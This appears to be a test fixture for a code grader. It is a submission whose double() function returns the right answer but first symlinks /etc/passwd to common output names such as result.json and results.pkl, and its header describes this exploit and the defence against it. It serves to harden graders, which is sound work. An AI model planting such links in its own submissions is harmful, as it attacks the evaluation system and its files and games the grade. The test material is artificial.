"""
verdict = ["AC", "RTE"]
points_at_most = 7
wall_s = 15
exploits = "Puts links to the system's files where a grader might read, write or change the owner of an answer."
stops = "The trusted side opens no file that a submission can write; answers are bytes in a pipe."
"""

import os


def double(x):
    for name in ("result.json", "output", "submission.py", "results.pkl", ".cache"):
        os.symlink("/etc/passwd", name)
    return 2 * x
